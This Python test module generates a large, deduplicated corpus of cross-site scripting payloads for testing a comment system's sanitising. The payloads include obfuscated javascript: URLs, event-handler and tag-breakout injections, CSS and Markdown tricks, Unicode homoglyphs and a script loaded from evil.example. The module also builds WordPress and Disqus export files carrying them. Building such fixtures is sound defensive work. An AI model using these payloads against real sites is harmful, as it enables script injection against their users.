"""Hostile input for every surface that shows readers' words, generated from families.

Each family crosses a few axes (tags × handlers × quoting, schemes × obfuscations × Markdown
or HTML contexts, breakouts × the markup they try to leave), so the corpus is large without
being a list copied from elsewhere. Every payload that could run sets ``window.__pwned`` and
opens a dialog, so a single success anywhere is seen. The lists are deterministic (the same
order on every run) and free of duplicates.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass
from xml.sax.saxutils import escape

JS = "window.__pwned=1;alert(1)"
# Where a URL's scheme hides: the schemes browsers run or render, spelled as attackers do.
_SCHEMES = ("javascript", "vbscript", "data")
_BODIES = {"javascript": JS, "vbscript": "msgbox(1)",
           "data": "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}


def _obfuscations(scheme: str) -> list[str]:
    """One scheme's spellings: case, entities, whitespace, control characters, encodings."""
    head, tail = scheme[:4], scheme[4:]
    return [
        f"{scheme}:",
        f"{scheme.upper()}:",
        f"{scheme[0].upper()}{scheme[1:3]}{scheme[3].upper()}{scheme[4:]}:",
        f" {scheme}:",
        f"\t{scheme}:",
        f"{head}\t{tail}:",
        f"{head}\n{tail}:",
        f"{head}\r{tail}:",
        f"{head}\x01{tail}:",
        f"\x00{scheme}:",
        f"{scheme}&#58;",
        f"{scheme}&colon;",
        f"&#x{ord(scheme[0]):x};{scheme[1:]}:",
        f"&#{ord(scheme[0])};{scheme[1:]}:",
        f"&#0000{ord(scheme[0])}{scheme[1:]}:",
        f"%{ord(scheme[0]):x}{scheme[1:]}:",
        f"{head}\u200b{tail}:",
        f"{scheme}\u00a0:",
    ]


def hostile_urls() -> list[str]:
    """Every scheme under every spelling, each with a body that acts."""
    return _unique(f"{spelling}{_BODIES[scheme]}"
                   for scheme in _SCHEMES for spelling in _obfuscations(scheme))


# Where a URL is put: Markdown's links, images, autolinks and reference definitions, and raw
# HTML that a renderer must not pass through.
_URL_CONTEXTS = (
    "[click {n}]({url})",
    "![image {n}]({url})",
    "<{url}>",
    "[ref {n}][r{n}]\n\n[r{n}]: {url}",
    '<a href="{url}">anchor {n}</a>',
    '<iframe src="{url}"></iframe> frame {n}',
    '<form action="{url}"><button formaction="{url}">send {n}</button></form>',
    '<svg><a xlink:href="{url}"><text>svg {n}</text></a></svg>',
)


def url_texts() -> list[str]:
    """Half of the contexts × spellings grid, a different half for neighbouring contexts."""
    urls = hostile_urls()
    pairs = [(c, u) for i, c in enumerate(_URL_CONTEXTS) for j, u in enumerate(urls)
             if (i + j) % 2 == 0]
    return [context.format(url=url, n=n) for n, (context, url) in enumerate(pairs)]


_TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open",
         "input autofocus", "a href=#", "div", "marquee", "object data=x", "math", "style",
         "select autofocus", "textarea autofocus", "embed src=x", "image src=x")
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
             "onanimationstart", "onbegin", "onpointerenter", "onfocusin")
_QUOTES = ('"{js}"', "'{js}'", "{js}", "`{js}`")
_SEPARATORS = (" ", "/", "\n", "\t")


def handler_texts() -> list[str]:
    """Event handlers on many tags, with every quoting and separator in turn."""
    found = []
    for t, tag in enumerate(_TAGS):
        for h, handler in enumerate(_HANDLERS):
            quote = _QUOTES[(t + h) % len(_QUOTES)].format(js=JS)
            sep = _SEPARATORS[(t * 3 + h) % len(_SEPARATORS)]
            name = tag.split()[0]
            found.append(f"<{tag}{sep}{handler}={quote}>{name} {handler}</{name}>")
    return found


_BREAKOUTS = (
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '"><img src=x onerror="{js}">',
    "'><svg onload='{js}'>",
    "\" autofocus onfocus=\"{js}\" x=\"",
    "' autofocus onfocus='{js}' x='",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</style><svg onload={js}>",
    "</script><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "</noscript><img src=x onerror={js}>",
    "<![CDATA[<script>{js}</script>]]>",
    "<template><script>{js}</script></template>",
    "<!--<img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}>",
    "<?xml-stylesheet href=\"javascript:{js}\"?>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><script>{js}</script></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><mi xlink:href=\"javascript:{js}\">m</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<xmp><img src=x onerror={js}></xmp>",
    "<plaintext><img src=x onerror={js}>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{js}&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>{js}</script>\"></object>",
    "<embed src=\"javascript:{js}\">",
    "<base href=\"javascript:{js}//\"><a href=\"x\">base</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">",
    "<link rel=\"import\" href=\"data:text/html,<script>{js}</script>\">",
    "<isindex action=\"javascript:{js}\" type=image>",
    "<table background=\"javascript:{js}\"><td>t</td></table>",
    "<input type=image src=x onerror={js}>",
    "<button form=f formaction=\"javascript:{js}\">b</button>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>script>{js}<</script>/script>",
    "<script\x20type=\"text/javascript\">{js}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,{js}></script>",
    "<img src=\"x` `<script>{js}</script>\"` `>",
    "<img \"\"\"><script>{js}</script>\">",
    "<a href=\"\x0bjavascript:{js}\">vt</a>",
    "<div id=\"x\"><style>@import 'javascript:{js}';</style></div>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=\"javascript:{js}\"/><a><text>set</text></a></svg>",
    "<details open ontoggle={js}>",
)


def breakout_texts() -> list[str]:
    return [b.format(js=JS) for b in _BREAKOUTS]


_CSS = (
    '<div style="background:url(javascript:{js})">css 1</div>',
    '<div style="background-image:url(&quot;javascript:{js}&quot;)">css 2</div>',
    '<div style="width:expression({js})">css 3</div>',
    '<div style="behavior:url(#default#time2)" onbegin="{js}">css 4</div>',
    '<p style="-moz-binding:url(data:text/xml,x)">css 5</p>',
    "<style>*{{background:url('javascript:{js}')}}</style>css 6",
    '<div style="x:\\65 xpression({js})">css 7</div>',
    '<span style="animation-name:x" onanimationstart="{js}">css 8</span>',
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={js}>css 9</b>",
    '<a style="position:fixed;inset:0" href="javascript:{js}">css 10</a>',
)


def css_texts() -> list[str]:
    return [c.format(js=JS) for c in _CSS]


_MARKDOWN = (
    "[a](<javascript:{js}>)",
    '[a](javascript:{js} "title")',
    "[a]( javascript:{js})",
    "[a](java%0ascript:{js})",
    "[a](\njavascript:{js})",
    "[a](javascript&#58;{js})",
    "[a](jav&#x09;ascript:{js})",
    '![a"onerror="{js}](x)',
    '![x](https://example.org/a.png"onerror="{js})',
    '[x](https://example.org"onmouseover="{js})',
    "[x](https://example.org 'x\" onmouseover=\"{js}')",
    '[x](https://example.org "x\' onmouseover=\'{js}\'")',
    "<javascript:{js}>",
    "<JAVASCRIPT:{js}>",
    '<mailto:x@example.org?"onclick={js}>',
    "[x]: javascript:{js}\n\n[x]",
    "[x]: <javascript:{js}> \"t\"\n\n[x][]",
    "[[x](javascript:{js})](https://example.org)",
    "[x](https://example.org)(javascript:{js})",
    "`<img src=x onerror={js}>` and ``<script>`` code",
    "```html\n<script>{js}</script>\n```",
    "    <script>{js}</script>\n\nindented",
    "<pre>\n<script>{js}</script>\n</pre>",
    "<!-- a comment -->\n<script>{js}</script>",
    "<?php echo 1 ?><script>{js}</script>",
    "<!DOCTYPE x><script>{js}</script>",
    "> <script>{js}</script>\n> quoted",
    "* <img src=x onerror={js}>\n* list",
    "1. [a](javascript:{js})\n2. b",
    "# <svg onload={js}>\n\nheading",
    "| a | b |\n|---|---|\n| <img src=x onerror={js}> | [c](javascript:{js}) |",
    "*<img src=x onerror={js}>*",
    "**[bold](javascript:{js})**",
    "_<a href=javascript:{js}>x</a>_",
    "\\<script>{js}\\</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](//evil.example/%0a<script>)",
    "[a](#\"><script>{js}</script>)",
    "[a](https://example.org/?q=<script>{js}</script>)",
    "https://example.org/<script>{js}</script> bare",
    "www.example.org/\"onmouseover=\"{js}\" bare",
    "[a](javascript://%0a{js})",
    "[a](javascript://example.org/%0a{js})",
    "[a\\](javascript:{js})",
    "[a](javascript\\:{js})",
    "~~<script>{js}</script>~~",
)


def markdown_texts() -> list[str]:
    return [m.format(js=JS) for m in _MARKDOWN]


_UNICODE = (
    "\u202e>tpircs/<{js}>tpircs<\u202c reversed",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e fullwidth",
    "\uff1cimg src=x onerror={js}\uff1e fullwidth",
    "<img src=x \u200bonerror={js}> zero width",
    "[a](java\u200dscript:{js}) joiner",
    "\ufeff<script>{js}</script> bom",
    "<scr\u0131pt>{js}</scr\u0131pt> dotless i",
    "<\u0455cript>{js}</\u0455cript> homoglyph",
    "\u2028<script>{js}</script>\u2029 separators",
    "<img src=x onerror=\u0061lert(1)> escapes",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be us-ascii",
    "\u2039script\u203a{js}\u2039/script\u203a angle quotes",
    "<a href=\"\u1680javascript:{js}\">ogham</a>",
    "<a href=\"\u3000javascript:{js}\">ideographic</a>",
    "\U0001d4e7\U0001d4e2\U0001d4e2 <svg onload={js}> astral",
)


def unicode_texts() -> list[str]:
    return [u.format(js=JS) for u in _UNICODE]


def texts() -> list[str]:
    """Comment texts: every family, without duplicates."""
    return _unique([*url_texts(), *handler_texts(), *breakout_texts(), *css_texts(),
                    *markdown_texts(), *unicode_texts()])


_NAME_PREFIXES = ("", "Jeanne", '"', "'", '">', "'>", "</span>", "</h2>", "</a>", "-->",
                  "</li>", "\u202e")
_NAME_ATTACKS = (
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<script>{js}</script>",
    " onmouseover={js} x=",
    "javascript:{js}",
    "<a href=javascript:{js}>x</a>",
    "\uff1cscript\uff1e{js}",
    "<style>*{{x:expression({js})}}</style>",
    "<iframe src=javascript:{js}>",
)


def names() -> list[str]:
    """Display names (at most 100 characters: the API's limit)."""
    return _unique(
        (prefix + attack.format(js=JS))[:100]
        for a, attack in enumerate(_NAME_ATTACKS)
        for p, prefix in enumerate(_NAME_PREFIXES) if (a + p) % 2 == 0 or a < 3)


def titles() -> list[str]:
    """Page titles: the names' attacks inside the markup around titles."""
    wrappers = ("{a}", "Un titre {a}", '"{a}', "'{a}", "</title>{a}", "</h2>{a}", "’{a}‘")
    return _unique(w.format(a=attack.format(js=JS)) for w in wrappers
                   for attack in _NAME_ATTACKS[:6])


def websites() -> list[str]:
    """Websites: the hostile URLs, and http(s) URLs that try to leave their attribute."""
    tricky = [
        f'https://example.org/"><script>{JS}</script>',
        f"https://example.org/'onmouseover='{JS}'",
        f"https://example.org/#\"onclick=\"{JS}",
        f"https://example.org/?q=<img src=x onerror={JS}>",
        "https://example.org/ onmouseover=alert(1)",
        f"https://javascript:{JS}@example.org/",
        "https://example.org:80@evil.example/",
        f"javascript://example.org/%0a{JS}",
        f"java\tscript://example.org/%0a{JS}",
        "https://example.org/`onmouseover=alert(1)`",
        f"//example.org/\"><svg onload={JS}>",
        "example.org/javascript:alert(1)",
        "HTTPS://EXAMPLE.ORG/Page",
        "https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "https://example.org/?a=1&b=%26%23x6A%3Bavascript:alert(1)",
        "http://xn--80ak6aa92e.example/",
    ]
    return _unique([*hostile_urls(), *tricky])


def emails() -> list[str]:
    """Email addresses the admin UI shows in mailto: links (most are refused)."""
    return _unique([
        f"javascript:{JS}@example.org", f'"><script>{JS}</script>@example.org',
        "x@example.org?subject=<script>", "a+onmouseover=alert(1)@example.org",
        "x@example.org\"onclick=alert(1)", "data:text/html,x@example.org",
        "\uff1cscript\uff1e@example.org", "x@\u202eexample.org", "x@example.org/..",
        "vbscript:msgbox(1)@example.org", "jeanne@example.org",
    ])


@dataclass(frozen=True)
class WxrComment:
    id: int
    author: str
    email: str
    url: str
    content: str
    approved: str


@dataclass(frozen=True)
class WxrItem:
    post_id: int
    title: str
    link: str
    comments: tuple[WxrComment, ...]


def _cdata(value: str) -> str:
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def wxr_item(item: WxrItem) -> str:
    comments = "".join(
        f"<wp:comment><wp:comment_id>{c.id}</wp:comment_id>"
        f"<wp:comment_author>{_cdata(c.author)}</wp:comment_author>"
        f"<wp:comment_author_email>{escape(c.email)}</wp:comment_author_email>"
        f"<wp:comment_author_url>{escape(c.url)}</wp:comment_author_url>"
        f"<wp:comment_date_gmt>2026-11-20 10:{c.id % 60:02d}:00</wp:comment_date_gmt>"
        f"<wp:comment_content>{_cdata(c.content)}</wp:comment_content>"
        f"<wp:comment_approved>{c.approved}</wp:comment_approved>"
        f"<wp:comment_type>comment</wp:comment_type><wp:comment_parent>0</wp:comment_parent>"
        f"</wp:comment>" for c in item.comments)
    return (f"<item><title>{escape(item.title)}</title><link>{escape(item.link)}</link>"
            f"<wp:post_id>{item.post_id}</wp:post_id>"
            f"<wp:post_date_gmt>2026-11-19 08:00:00</wp:post_date_gmt>"
            f"<wp:comment_status>open</wp:comment_status>{comments}</item>")


def wxr_document(items: Iterable[WxrItem]) -> str:
    """A WordPress export (WXR 1.2) of ``items``."""
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
            'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
            'xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Hostile blog</title>'
            '<wp:wxr_version>1.2</wp:wxr_version>'
            + "".join(wxr_item(i) for i in items) + "</channel></rss>\n")


def html_bodies() -> list[str]:
    """Imported comment bodies are HTML (WordPress converts them to Markdown on the way in):
    the families as HTML, and Markdown written as text inside HTML."""
    found = [*breakout_texts(), *handler_texts()[::3], *css_texts(),
             *(f"<p>{html.escape(m)}</p>" for m in markdown_texts()[:20]),
             *(f'<a href="{html.escape(u)}">imported link</a>' for u in hostile_urls())]
    return _unique(b for b in found if not _XML_FORBIDDEN.search(b))


_XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # no XML file can hold them


def _unique(values: Iterable[str]) -> list[str]:
    return list(dict.fromkeys(values))


def uris() -> list[str]:
    """Page addresses: any reader can open a thread on any path, so paths are input too."""
    return _unique([
        f"javascript:{JS}", f"JavaScript://%0a{JS}", "data:text/html,<script>alert(1)</script>",
        "//evil.example/x", f"/x'onmouseover='{JS}'", f'/x"><script>{JS}</script>',
        f"/x/<img src=x onerror={JS}>", "/x/%22%3E%3Csvg%20onload%3Dalert(1)%3E",
        f"/x#\"><script>{JS}</script>", f"/x?q=\"><script>{JS}</script>",
        "/\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "/\u202egnp.exe",
        f"https://evil.example/\"onclick=\"{JS}", "/x/../../javascript:alert(1)",
    ])


@dataclass(frozen=True)
class DisqusPost:
    id: int
    thread: int
    parent: int | None
    author: str
    email: str
    message: str


def disqus_document(threads: dict[int, tuple[str, str]], posts: Iterable[DisqusPost]) -> str:
    """A Disqus export: ``threads`` maps an id to its (link, title)."""
    head = ('<?xml version="1.0" encoding="utf-8"?>\n<disqus xmlns="http://disqus.com" '
            'xmlns:dsq="http://disqus.com/disqus-internals">\n')
    made = "".join(
        f'<thread dsq:id="{i}"><link>{escape(link)}</link><title>{escape(title)}</title>'
        "<createdAt>2026-11-01T00:00:00Z</createdAt><isClosed>false</isClosed>"
        "<isDeleted>false</isDeleted></thread>\n" for i, (link, title) in threads.items())
    said = "".join(
        f'<post dsq:id="{p.id}"><message>{_cdata(p.message)}</message>'
        f"<createdAt>2026-11-02T03:{p.id % 60:02d}:00Z</createdAt><isDeleted>false</isDeleted>"
        f"<isSpam>false</isSpam><author><name>{escape(p.author)}</name>"
        f"<email>{escape(p.email)}</email><isAnonymous>false</isAnonymous></author>"
        f'<thread dsq:id="{p.thread}"/>'
        + (f'<parent dsq:id="{p.parent}"/>' if p.parent else "") + "</post>\n" for p in posts)
    return head + made + said + "</disqus>\n"
